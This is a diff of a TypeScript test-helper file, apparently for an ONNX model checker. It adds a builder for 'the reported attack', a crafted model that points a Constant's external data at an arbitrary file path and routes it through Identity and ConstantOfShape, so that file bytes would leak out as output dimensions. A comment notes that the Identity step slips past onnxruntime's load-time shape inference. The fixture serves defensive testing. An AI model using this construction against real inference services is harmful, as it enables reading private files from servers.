@@ -280,3 +280,35 @@ export function nestedSequenceBytes(depth: number): Buffer {
   });
   return modelBytes(graph);
 }
+
+/** A float32 scalar tensor (ConstantOfShape's `value`). */
+export function valueTensor(): Tensor {
+  return makeTensor('value', 'float32', [1], [0.5]);
+}
+
+/**
+ * Item 1, the reported attack: a model-local function holds a Constant whose int64[4] data is
+ * external at `location`, and ConstantOfShape (behind an Identity) turns those four numbers into an
+ * output shape. Had
+ * onnxruntime read the file, its bytes would come back as output dims.
+ */
+export function leakViaShape(location: string): Model {
+  const b = new GraphBuilder({ opset: 17, extraOpsets: [{ domain: 'local', version: 1 }] });
+  const x = b.input('x', 'float32', [1]);
+  const [y] = b.node('Leak', [x], {}, { domain: 'local', name: '/leak' });
+  b.output(y!);
+  const m = b.build();
+  const c: Tensor = { ...externalTensor('c_t', location, [4]), dataType: 7 };
+  c.data = { kind: 'external', location, offset: 0, length: 32, entries: [{ key: 'location', value: location }] };
+  m.functions.push({
+    name: 'Leak', domain: 'local', inputs: ['a'], outputs: ['b'], attributeNames: [], attributeDefaults: [],
+    nodes: [
+      { name: '/c', opType: 'Constant', domain: '', inputs: [], outputs: ['c'], attributes: [{ name: 'value', type: 'tensor', value: c }] },
+      // The Identity keeps onnxruntime's shape inference from reading the constant at load time.
+      { name: '/id', opType: 'Identity', domain: '', inputs: ['c'], outputs: ['d'], attributes: [] },
+      { name: '/cos', opType: 'ConstantOfShape', domain: '', inputs: ['d'], outputs: ['b'], attributes: [] },
+    ],
+    opsetImports: [{ domain: '', version: 17 }], valueInfo: [],
+  });
+  return m;
+}
